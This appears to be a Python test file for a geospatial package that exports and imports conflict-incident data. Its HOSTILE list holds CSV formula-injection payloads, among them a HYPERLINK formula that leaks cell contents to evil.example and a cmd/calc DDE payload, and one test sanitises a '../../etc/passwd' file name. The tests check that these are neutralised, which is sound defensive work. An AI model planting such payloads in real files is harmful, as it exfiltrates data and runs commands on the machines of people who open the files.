"""geo.store.export: the files an analyst takes away from a view; geo.viz.export adds
the offline map HTML."""

from __future__ import annotations

import csv
import io
import json
import re
from datetime import date

import geopandas as gpd
import pandas as pd
import pytest

from geo.viz import export as map_export  # the HTML map export is viz's
from geo.incidents import Incident
from geo.store import empty_layer, export, incidents_to_frame, read_layer

from conftest import synthetic_incidents


@pytest.fixture(scope="module")
def layer():
    return incidents_to_frame(synthetic_incidents())


HOSTILE = [
    "=HYPERLINK(\"http://evil.example/?\"&A1, \"click\")",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
]


def _rows(data: bytes) -> list[dict]:
    assert data.startswith(b"\xef\xbb\xbf")  # BOM: Excel reads the UTF-8 right
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def test_csv_has_every_incident_and_column(layer):
    rows = _rows(export.to_csv(layer))
    assert len(rows) == 11
    assert list(rows[0]) == [c for c in layer.columns if c != "geometry"]
    assert rows[0]["event_date"] == "2024-04-02"
    assert rows[0]["fatalities"] == "12" and rows[0]["latitude"] == "15.64"
    assert rows[10]["latitude"] == ""  # not located: empty, not "nan"
    back = pd.read_csv(io.BytesIO(export.to_csv(layer)), encoding="utf-8-sig")
    assert back["fatalities"].sum() == 80


@pytest.mark.parametrize("payload", HOSTILE)
def test_csv_cells_cannot_start_a_formula(payload):
    frame = incidents_to_frame([
        Incident("2024-01-01", "Battles", "Armed clash", payload, actor2="Civilians", location=payload,
                 evidence=payload, title=payload, source=payload, latitude=-1.5, longitude=-60.25,
                 fatalities=3, doc_id="d")
    ])
    (row,) = _rows(export.to_csv(frame))
    for col in ("actor1", "location", "evidence", "title", "source"):
        assert row[col] == "'" + payload, col
        assert not row[col].startswith(export.FORMULA_START)
    # numbers stay numbers, even negative ones; plain text is untouched
    assert row["latitude"] == "-1.5" and row["longitude"] == "-60.25" and row["fatalities"] == "3"
    assert row["actor2"] == "Civilians"


def test_neutralise_formula():
    assert export.neutralise_formula("=1+1") == "'=1+1"
    assert export.neutralise_formula("Battle at -5 C") == "Battle at -5 C"
    assert export.neutralise_formula("") == ""
    assert export.neutralise_formula(None) is None
    assert export.neutralise_formula(-3) == -3


def test_geojson(layer):
    gj = json.loads(export.to_geojson(layer))
    assert gj["type"] == "FeatureCollection"
    assert len(gj["features"]) == 11
    first = gj["features"][0]
    assert first["geometry"] == {"type": "Point", "coordinates": [32.48, 15.64]}
    assert first["id"] == first["properties"]["event_id"]
    assert first["properties"]["event_date"] == "2024-04-02"
    assert first["properties"]["fatalities"] == 12
    assert gj["features"][10]["geometry"] is None  # kept, not located
    assert gj["features"][10]["properties"]["latitude"] is None
    # and GDAL reads it back
    back = gpd.read_file(io.BytesIO(export.to_geojson(layer)))
    assert len(back) == 11 and back.crs.to_epsg() == 4326


def test_geoparquet_round_trips_through_the_store_reader(layer, tmp_path):
    path = tmp_path / "view.parquet"
    path.write_bytes(export.to_geoparquet(layer.iloc[2:5]))
    back = read_layer(path)
    assert list(back["event_id"]) == list(layer["event_id"].iloc[2:5])
    assert back.crs.to_epsg() == 4326
    assert back.geometry.iloc[0].x == pytest.approx(25.35)


def test_map_html_is_standalone_and_offline(layer):
    html = map_export.to_map_html(layer, title='Sudan <April> "2024"').decode("utf-8")
    assert html.startswith("<!DOCTYPE html>")
    assert re.findall(r"https?://", html) == []
    assert "<title>Sudan &lt;April&gt; &#34;2024&#34;</title>" in html or "<title>Sudan &lt;April&gt; &quot;2024&quot;</title>" in html
    assert "var RAW = " in html  # the incidents travel with the file
    heat = map_export.to_map_html(layer, heatmap=True).decode("utf-8")
    assert "L.heatLayer(" in heat


def test_empty_views_export_cleanly():
    empty = empty_layer()
    assert _rows(export.to_csv(empty)) == []
    assert json.loads(export.to_geojson(empty))["features"] == []
    assert len(gpd.read_parquet(io.BytesIO(export.to_geoparquet(empty)))) == 0
    assert b"var RAW = " in map_export.to_map_html(empty)


def test_export_dispatch_and_names(layer):
    assert export.export(layer, "csv") == export.to_csv(layer)
    with pytest.raises(ValueError):
        export.export(layer, "xlsx")
    assert export.file_name("incidents", "csv") == "incidents.csv"
    assert export.file_name("incidents", "geoparquet", date(2021, 6, 1), date(2021, 6, 30)) == \
        "incidents_2021-06-01_2021-06-30.parquet"
    assert export.file_name("../../etc/passwd", "html") == "etc-passwd.html"
    assert export.file_name("brief", "pdf", date(2021, 6, 1)) == "brief_2021-06-01_end.pdf"
    with pytest.raises(ValueError):
        export.file_name("brief", "../")


def test_the_dashboard_exports_the_map_beside_the_data_formats(layer):
    assert list(map_export.FORMATS) == [*export.FORMATS, "html"]
    assert map_export.export(layer, "geojson") == export.to_geojson(layer)
    assert b"var RAW = " in map_export.export(layer, "html")
    with pytest.raises(ValueError):
        map_export.export(layer, "xlsx")


# --------------------------------------------------------------------------- geo export / geo import


ACLED_ROWS = [
    ["event_id_cnty", "event_date", "year", "time_precision", "disorder_type", "event_type", "sub_event_type",
     "actor1", "assoc_actor_1", "inter1", "actor2", "assoc_actor_2", "inter2", "interaction",
     "civilian_targeting", "iso", "region", "country", "admin1", "admin2", "admin3", "location", "latitude",
     "longitude", "geo_precision", "source", "source_scale", "notes", "fatalities", "tags", "timestamp"],
    ["SDN9001", "02 April 2024", "2024", "1", "Political violence", "Battles", "Armed clash",
     "Rapid Support Forces", "", "2", "Sudanese Armed Forces", "", "1", "12", "", "729", "Northern Africa",
     "Sudan", "Khartoum", "Omdurman", "", "Omdurman", "15.6445", "32.4777", "1", "Field Wire", "National",
     "Fighters of both sides exchanged fire near a bridge.", "9", "", "1712500000"],
    ["SDN9002", "06 April 2024", "2024", "1", "Demonstrations", "Protests", "Peaceful protest",
     "Protesters (Sudan)", "", "6", "", "", "", "60", "", "729", "Northern Africa", "Sudan", "Red Sea",
     "Port Sudan", "", "Port Sudan", "19.6158", "37.2164", "1", "Coast Daily", "Subnational",
     "Residents gathered to ask for water.", "0", "crowd size=no report", "1712600000"],
]


@pytest.fixture
def mixed_store(tmp_path):
    """A folder store with our own incidents (synthetic) and an ACLED export (imported by the CLI)."""
    from geo.cli import main as cli_main
    from geo.store import open_store
    from geo.store.schema import DOCUMENT_COLUMNS, conform_documents

    own = incidents_to_frame(synthetic_incidents())
    docs = conform_documents(pd.DataFrame({"doc_id": ["d1", "d2", "d3"], "title": "t", "date": None,
                                           "source": "s", "n_incidents": 1,
                                           "ingested_at": pd.Timestamp.now(tz="UTC")}, columns=DOCUMENT_COLUMNS))
    with open_store(tmp_path / "store") as store:
        store.append(own, docs)
    with open(tmp_path / "acled.csv", "w", encoding="utf-8", newline="") as f:
        csv.writer(f).writerows(ACLED_ROWS)
    assert cli_main(["import", "acled", str(tmp_path / "acled.csv"), "--store", str(tmp_path / "store")]) == 0
    return tmp_path / "store"


def test_import_is_idempotent_from_the_command_line(mixed_store, tmp_path, capsys):
    from geo.cli import main as cli_main

    capsys.readouterr()
    assert cli_main(["import", "acled", str(tmp_path / "acled.csv"), "--store", str(mixed_store)]) == 0
    assert "0 events added, 2 already in the store" in capsys.readouterr().err
    assert cli_main(["import", "ucdp", str(tmp_path / "nothing.csv"), "--store", str(mixed_store)]) == 2


def test_export_acled_csv_of_the_imported_layer_is_the_file(mixed_store, tmp_path):
    from geo.cli import main as cli_main

    out = tmp_path / "out" / "acled.csv"
    assert cli_main(["export", "--store", str(mixed_store), "--format", "acled-csv", "--dataset", "acled",
                     "--out", str(out)]) == 0
    assert list(csv.reader(io.StringIO(out.read_text("utf-8"), newline=""))) == ACLED_ROWS


@pytest.mark.parametrize("fmt", ["csv", "geojson", "geoparquet", "acled-csv", "html"])
def test_export_formats_with_the_dashboards_filters(mixed_store, tmp_path, fmt):
    from geo.cli import main as cli_main

    out = tmp_path / f"view.{fmt}"
    args = ["export", "--store", str(mixed_store), "--format", fmt, "--out", str(out),
            "--country", "Sudan", "--min-fatalities", "5", "--from", "2024-04-01", "--to", "2024-04-30"]
    assert cli_main(args) == 0
    # our own: 2024-04-02 (12), 04-11 (30), 04-25 (7); ACLED's: 04-02 (9)
    expected = {"d1-0", "d1-2", "d2-1", "acled:SDN9001"}
    if fmt == "csv":
        assert {r["event_id"] for r in _rows(out.read_bytes())} == expected
    elif fmt == "geojson":
        assert {f["id"] for f in json.loads(out.read_bytes())["features"]} == expected
    elif fmt == "geoparquet":
        assert set(gpd.read_parquet(out)["event_id"]) == expected
    elif fmt == "acled-csv":
        rows = list(csv.DictReader(io.StringIO(out.read_text("utf-8"), newline="")))
        assert {r["event_id_cnty"] for r in rows} == {"d1-0", "d1-2", "d2-1", "SDN9001"}
    else:
        html = out.read_text("utf-8")
        assert html.startswith("<!DOCTYPE html>") and "Omdurman" in html and "Port Sudan" not in html


def test_export_by_dataset_and_a_filter_that_matches_nothing(mixed_store, tmp_path, capsys):
    from geo.cli import main as cli_main

    out = tmp_path / "view.csv"
    base = ["export", "--store", str(mixed_store), "--format", "csv", "--out", str(out)]
    assert cli_main([*base, "--dataset", "reports"]) == 0
    assert len(_rows(out.read_bytes())) == 11
    out.unlink()
    capsys.readouterr()
    assert cli_main([*base, "--actor", "Rapid Suport Forces"]) == 1
    err = capsys.readouterr().err
    assert "--actor 'Rapid Suport Forces' matches nothing" in err and "'Rapid Support Forces'" in err
    assert cli_main([*base, "--dataset", "acleed"]) == 1
    assert "did you mean 'acled'" in capsys.readouterr().err
    assert not out.exists()  # nothing written
    assert cli_main([*base, "--actor", "rapid support"]) == 0  # a part of the name, any case
    assert cli_main([*base, "--from", "April"]) == 2
    assert cli_main(["export", "--store", str(tmp_path / "none"), "--format", "csv", "--out", str(out)]) == 2


def test_import_into_an_old_single_file_name_goes_to_its_folder_store(tmp_path):
    from geo.cli import main as cli_main

    with open(tmp_path / "acled.csv", "w", encoding="utf-8", newline="") as f:
        csv.writer(f).writerows(ACLED_ROWS)
    store = tmp_path / "incidents.parquet"
    assert cli_main(["import", "acled", str(tmp_path / "acled.csv"), "--store", str(store)]) == 0
    assert not store.exists() and (tmp_path / "incidents").is_dir()
    out = tmp_path / "back.csv"
    assert cli_main(["export", "--store", str(store), "--format", "acled-csv", "--out", str(out)]) == 0
    assert list(csv.reader(io.StringIO(out.read_text("utf-8"), newline=""))) == ACLED_ROWS


def test_export_finds_the_folder_a_single_file_name_stands_for(mixed_store, tmp_path):
    from geo.cli import main as cli_main

    out = tmp_path / "view.csv"
    # "store.parquet" that does not exist means the folder store "store" (geo.store.open).
    assert cli_main(["export", "--store", str(tmp_path / "store.parquet"), "--format", "csv", "--out", str(out)]) == 0
    assert len(_rows(out.read_bytes())) == 13
